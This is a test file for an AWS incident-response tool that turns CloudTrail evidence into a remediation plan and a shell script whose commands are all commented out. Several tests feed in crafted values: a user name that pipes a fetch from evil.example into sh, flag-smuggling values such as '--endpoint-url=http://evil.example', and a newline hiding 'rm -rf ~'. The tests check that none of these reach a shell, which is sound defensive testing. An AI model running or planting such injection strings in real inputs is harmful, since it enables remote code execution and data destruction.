import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { planFromStore } from '../../src/report/from-store.js';
import type { EvidenceEvent, Finding } from '../../src/report/evidence.js';
import { renderPlanShell } from '../../src/report/plan-renderers.js';
import { buildPlan } from '../../src/remediate/plan.js';
import { COMMERCIAL_REGIONS } from '../../src/remediate/regions.js';
import type { RemediationAction, RemediationPlan } from '../../src/remediate/types.js';
import type { Store } from '../../src/store/store.js';
import { DEMO_FACTS } from '../../synth/scenario.js';
import { demoStore, PINNED } from '../report/demo-store.js';
import { evidenceEvent, findingOf } from '../helpers/evidence.js';

const actions = (plan: RemediationPlan): RemediationAction[] => plan.steps.flatMap((s) => s.actions);
const CONTAINED = '2026-03-06T12:00:00Z';

describe('the remediation plan for the demo', () => {
  let store: Store;
  let plan: RemediationPlan;
  beforeAll(async () => {
    store = await demoStore();
    plan = await planFromStore(store, { containedAt: PINNED });
  });
  afterAll(() => store.close());

  it('has the seven steps in the order of the AWS guidance', () => {
    expect(plan.steps.map((s) => s.id)).toEqual(['exposed-keys', 'temporary-credentials', 'attacker-principals', 'launched-resources', 'logging', 'shared-data', 'account-hygiene']);
    expect(plan.exposedKeys).toEqual([DEMO_FACTS.leakedKeyId]);
  });

  it('deactivates the leaked key before deleting it, and never deletes it first', () => {
    const step = plan.steps[0]!.actions;
    const kinds = step.filter((a) => a.target === DEMO_FACTS.leakedKeyId).map((a) => a.kind);
    expect(kinds).toEqual(['deactivate-access-key', 'verify-deactivation', 'delete-access-key']);
    const deactivate = step.find((a) => a.kind === 'deactivate-access-key')!;
    expect(deactivate.command).toBe(`aws iam update-access-key --user-name=${DEMO_FACTS.leakedUser} --access-key-id=${DEMO_FACTS.leakedKeyId} --status Inactive`);
    expect(deactivate.evidence.length).toBeGreaterThan(0);
    expect(step[0]!.kind).toBe('create-replacement-key');
  });

  it('denies the sessions minted before containment with a TokenIssueTime policy on the user', () => {
    const deny = actions(plan).find((a) => a.kind === 'deny-sessions-issued-before')!;
    expect(deny.target).toBe(`arn:aws:iam::${DEMO_FACTS.account}:user/${DEMO_FACTS.leakedUser}`);
    expect(deny.policy).toEqual({
      Version: '2012-10-17',
      Statement: [{ Sid: 'DenySessionsIssuedBeforeContainment', Effect: 'Deny', Action: '*', Resource: '*', Condition: { DateLessThan: { 'aws:TokenIssueTime': CONTAINED } } }],
    });
    expect(deny.reason).toContain(DEMO_FACTS.mintedKeyId);
    expect(deny.command).toContain(`put-user-policy --user-name=${DEMO_FACTS.leakedUser}`);
    expect(JSON.parse(/'(\{.*\})'$/.exec(deny.command!)![1]!)).toEqual(deny.policy);
    const all = actions(plan).find((a) => a.kind === 'deny-all-temporarily')!;
    expect(all.policy).toEqual({ Version: '2012-10-17', Statement: [{ Sid: 'DenyAllDuringContainment', Effect: 'Deny', Action: '*', Resource: '*' }] });
    expect(all.reason).toContain('until 2026-03-08T00:00:00Z (36 hours)');
  });

  it("deletes the attacker's user, its key, password and policy attachment, keys and passwords first", () => {
    const step = plan.steps.find((s) => s.id === 'attacker-principals')!.actions;
    const kinds = step.map((a) => a.kind);
    expect(kinds).toContain('delete-user');
    expect(kinds.indexOf('delete-user')).toBe(kinds.length - 1);
    expect(step.find((a) => a.kind === 'delete-user')!.command).toBe(`aws iam delete-user --user-name=${DEMO_FACTS.createdUser}`);
    expect(step.find((a) => a.kind === 'delete-access-key')!.target).toBe(DEMO_FACTS.createdKeyId);
    expect(step.find((a) => a.kind === 'detach-user-policy')!.command).toContain(DEMO_FACTS.attachedPolicyArn);
    expect(kinds).toContain('delete-login-profile');
    for (const a of step) expect(a.evidence).toHaveLength(1);
  });

  it('terminates the instances in every region where they were launched, after snapshots, and lists every region', () => {
    const step = plan.steps.find((s) => s.id === 'launched-resources')!.actions;
    const terminate = step.filter((a) => a.kind === 'terminate-instances');
    expect(terminate.map((a) => a.region).sort()).toEqual([...DEMO_FACTS.regionsLaunched]);
    expect(terminate.flatMap((a) => a.target.split(' '))).toHaveLength(DEMO_FACTS.instancesLaunched);
    for (const a of terminate) expect(a.command).toMatch(new RegExp(`^aws ec2 terminate-instances --region=${a.region} --instance-ids=(i-[0-9a-f]+|'\\["i-[0-9a-f]+"(,"i-[0-9a-f]+")+\\]')$`));
    expect(step.findIndex((a) => a.kind === 'terminate-instances')).toBeGreaterThan(step.map((a) => a.kind).lastIndexOf('snapshot-volumes'));
    expect(plan.regions.filter((r) => r.launches > 0).map((r) => r.region).sort()).toEqual([...DEMO_FACTS.regionsLaunched]);
    expect(plan.regions.map((r) => r.region)).toEqual(expect.arrayContaining([...COMMERCIAL_REGIONS]));
    expect(step.at(-1)!.kind).toBe('inventory-all-regions');
  });

  it('restarts the trail the attacker stopped and lists the objects the created key read', () => {
    const start = actions(plan).find((a) => a.kind === 'start-logging')!;
    expect(start.command).toBe(`aws cloudtrail start-logging --name=${DEMO_FACTS.trailArn} --region=us-east-1`);
    const read = actions(plan).find((a) => a.kind === 'review-data-read')!;
    expect(read.reason).toContain('payroll-2026-02.xlsx');
    expect(read.evidence).toHaveLength(4);
  });

  it('writes a script in which every command is commented out', () => {
    const sh = renderPlanShell(plan);
    const live = sh.split('\n').filter((l) => l.trim() && !l.startsWith('#'));
    expect(live).toEqual(['set -eu']);
    expect(sh).toContain(`# aws iam update-access-key --user-name=${DEMO_FACTS.leakedUser} --access-key-id=${DEMO_FACTS.leakedKeyId} --status Inactive`);
  });
});

const event = evidenceEvent;
const finding = (e: EvidenceEvent, severity: Finding['severity'] = 'high'): Finding => findingOf(e, { severity });

describe('buildPlan rules', () => {
  it('deletes a root access key instead of rotating it', () => {
    const e = event('CreateUser', { principalArn: 'arn:aws:iam::111122223333:root', identityType: 'Root', userName: null, accessKeyId: 'AKIAROOTROOTROOT0001', requestParameters: { userName: 'x' } });
    const plan = buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED });
    expect(plan.steps[0]!.actions.map((a) => a.kind)).toEqual(['delete-root-access-key']);
    expect(plan.steps[1]!.actions).toEqual([]);
  });

  it("revokes the sessions of a role the attacker assumed with the role's revoke policy", () => {
    const e = event('AssumeRole', {
      eventSource: 'sts.amazonaws.com',
      requestParameters: { roleArn: 'arn:aws:iam::111122223333:role/ops/Admin', roleSessionName: 'x' },
      responseElements: { credentials: { accessKeyId: 'ASIAEXAMPLEROLE00001' } },
    });
    const plan = buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED });
    const revoke = plan.steps[1]!.actions.find((a) => a.kind === 'revoke-role-sessions')!;
    expect(revoke.command).toContain('aws iam put-role-policy --role-name=Admin --policy-name AWSRevokeOlderSessions');
    expect(revoke.reason).toContain('ASIAEXAMPLEROLE00001');
  });

  it('gives no command for a name AWS would never accept, so a crafted name cannot reach a shell', () => {
    const e = event('CreateUser', { requestParameters: { userName: "x'; curl evil.example | sh; echo '" } });
    const plan = buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED });
    const del = actions(plan).find((a) => a.kind === 'delete-user')!;
    expect(del.command).toBeNull();
    const sh = renderPlanShell(plan);
    expect(sh.split('\n').filter((l) => l.trim() && !l.startsWith('#'))).toEqual(['set -eu']);
  });

  it.each([
    ['CreateUser', { requestParameters: { userName: '--profile=evil' } }, 'delete-user', 'IAM user name'],
    ['CreateUser', { requestParameters: { userName: '-=x' } }, 'delete-user', 'IAM user name'],
    ['CreateRole', { requestParameters: { roleName: 'file://etc/passwd' } }, 'delete-role', 'IAM role name'],
    ['RequestSpotInstances', { eventSource: 'ec2.amazonaws.com', responseElements: { spotInstanceRequestSet: { items: [{ spotInstanceRequestId: '--endpoint-url=http://evil.example' }] } } }, 'cancel-spot-requests', 'Spot Instance request id'],
    ['ModifyDBSnapshotAttribute', { eventSource: 'rds.amazonaws.com', requestParameters: { dBSnapshotIdentifier: 'snap1', attributeName: 'restore', valuesToAdd: ['+0 --values-to-add=all'] } }, 'revoke-db-snapshot-sharing', 'AWS account id or all'],
  ] as const)('gives no command, and says why, for %s with an option-shaped value', (name, over, kind, what) => {
    const e = event(name, over as Partial<EvidenceEvent>);
    const plan = buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED });
    const action = actions(plan).find((a) => a.kind === kind)!;
    expect(action, kind).toBeDefined();
    expect(action.command).toBeNull();
    expect(action.rejected?.kind).toBe(what);
    const sh = renderPlanShell(plan);
    expect(sh.split('\n').filter((l) => l.trim() && !l.startsWith('#'))).toEqual(['set -eu']);
    expect(sh).toContain(`is not a valid ${what}; handle it by hand`);
  });

  it('puts every value from the logs in one --option=value word, so none can become a flag', () => {
    const e = event('CreateUser', { requestParameters: { userName: 'svc+ops=1,a.b@c-d' } });
    const del = actions(buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED })).find((a) => a.kind === 'delete-user')!;
    expect(del.command).toBe('aws iam delete-user --user-name=svc+ops=1,a.b@c-d');
  });

  it('keeps a newline in a logged value inside its shell comment', () => {
    const e = event('CreateUser', { requestParameters: { userName: 'ok' }, responseElements: { user: { arn: 'arn:aws:iam::111122223333:user/ok\nrm -rf ~' } } });
    const sh = renderPlanShell(buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED }));
    expect(sh).not.toMatch(/^rm /m);
    expect(sh.split('\n').filter((l) => l.trim() && !l.startsWith('#'))).toEqual(['set -eu']);
  });

  it('revokes snapshot and image sharing with the accounts named in the request', () => {
    const snap = event('ModifySnapshotAttribute', {
      eventSource: 'ec2.amazonaws.com',
      region: 'eu-west-1',
      requestParameters: { snapshotId: 'snap-0123456789abcdef0', createVolumePermission: { add: { items: [{ userId: '444455556666' }] } } },
    });
    const plan = buildPlan({ findings: [finding(snap)], events: [snap], containedAt: CONTAINED });
    const revoke = actions(plan).find((a) => a.kind === 'revoke-snapshot-sharing')!;
    expect(revoke.command).toBe('aws ec2 modify-snapshot-attribute --snapshot-id=snap-0123456789abcdef0 --attribute createVolumePermission --operation-type remove --user-ids=444455556666 --region=eu-west-1');
  });

  it('turns launches and logging changes in any region into the command that undoes them', () => {
    const cases: Array<[EvidenceEvent, string, string]> = [
      [event('RequestSpotInstances', { eventSource: 'ec2.amazonaws.com', region: 'ap-south-1', responseElements: { spotInstanceRequestSet: { items: [{ spotInstanceRequestId: 'sir-7k2x9p4q' }] } } }), 'cancel-spot-requests', 'aws ec2 cancel-spot-instance-requests --region=ap-south-1 --spot-instance-request-ids=sir-7k2x9p4q'],
      [event('CreateAutoScalingGroup', { eventSource: 'autoscaling.amazonaws.com', region: 'us-west-2', requestParameters: { autoScalingGroupName: 'miners' } }), 'delete-auto-scaling-group', 'aws autoscaling delete-auto-scaling-group --force-delete --auto-scaling-group-name=miners --region=us-west-2'],
      [event('CreateFunction20150331', { eventSource: 'lambda.amazonaws.com', region: 'eu-central-1', requestParameters: { functionName: 'updater' } }), 'delete-lambda-function', 'aws lambda delete-function --function-name=updater --region=eu-central-1'],
      [event('RunTask', { eventSource: 'ecs.amazonaws.com', requestParameters: { cluster: 'jobs' }, responseElements: { tasks: [{ taskArn: 'arn:aws:ecs:us-east-1:111122223333:task/jobs/0f1e2d3c4b5a69788796a5b4c3d2e1f0' }] } }), 'stop-ecs-task', 'aws ecs stop-task --cluster=jobs --task=arn:aws:ecs:us-east-1:111122223333:task/jobs/0f1e2d3c4b5a69788796a5b4c3d2e1f0 --region=us-east-1'],
      [event('StopConfigurationRecorder', { eventSource: 'config.amazonaws.com', region: 'eu-west-1', requestParameters: { configurationRecorderName: 'default' } }), 'start-config-recorder', 'aws configservice start-configuration-recorder --configuration-recorder-name=default --region=eu-west-1'],
      [event('DeleteDetector', { eventSource: 'guardduty.amazonaws.com', region: 'sa-east-1', requestParameters: { detectorId: 'abc123' } }), 'enable-guardduty', 'aws guardduty create-detector --enable --region=sa-east-1'],
    ];
    for (const [e, kind, cmd] of cases) {
      const plan = buildPlan({ findings: [finding(e)], events: [e], containedAt: CONTAINED });
      expect(actions(plan).find((a) => a.kind === kind)?.command, kind).toBe(cmd);
      expect(plan.regions.find((r) => r.region === e.region)?.attackerActivity).toBe(true);
    }
  });

  it('acts only on calls that succeeded', () => {
    const e = event('CreateUser', { errorCode: 'AccessDenied', requestParameters: { userName: 'nope' } });
    const plan = buildPlan({ findings: [finding(e, 'medium')], events: [e], containedAt: CONTAINED });
    expect(actions(plan).some((a) => a.kind === 'delete-user')).toBe(false);
  });

  it('leaves the exposed key’s own calls from other addresses alone', () => {
    const bad = event('CreateUser', { requestParameters: { userName: 'backdoor' } });
    const routine = event('RunInstances', {
      eventTime: '2026-03-04T02:00:00Z',
      eventSource: 'ec2.amazonaws.com',
      sourceIp: '192.0.2.80',
      responseElements: { instancesSet: { items: [{ instanceId: 'i-0123456789abcdef0' }] } },
    });
    const plan = buildPlan({ findings: [finding(bad)], events: [bad, routine], containedAt: CONTAINED });
    expect(actions(plan).some((a) => a.kind === 'terminate-instances')).toBe(false);
    const fromAttacker = { ...routine, eventId: 'r2', sourceIp: '203.0.113.9' };
    const plan2 = buildPlan({ findings: [finding(bad)], events: [bad, fromAttacker], containedAt: CONTAINED });
    expect(actions(plan2).find((a) => a.kind === 'terminate-instances')!.command).toBe('aws ec2 terminate-instances --region=us-east-1 --instance-ids=i-0123456789abcdef0');
  });

  it('still gives the checks every incident needs when there is nothing else', () => {
    const plan = buildPlan({ findings: [], events: [], containedAt: CONTAINED });
    expect(plan.steps.find((s) => s.id === 'account-hygiene')!.actions.length).toBeGreaterThanOrEqual(4);
    expect(plan.caveats.join(' ')).toContain('No finding');
  });
});
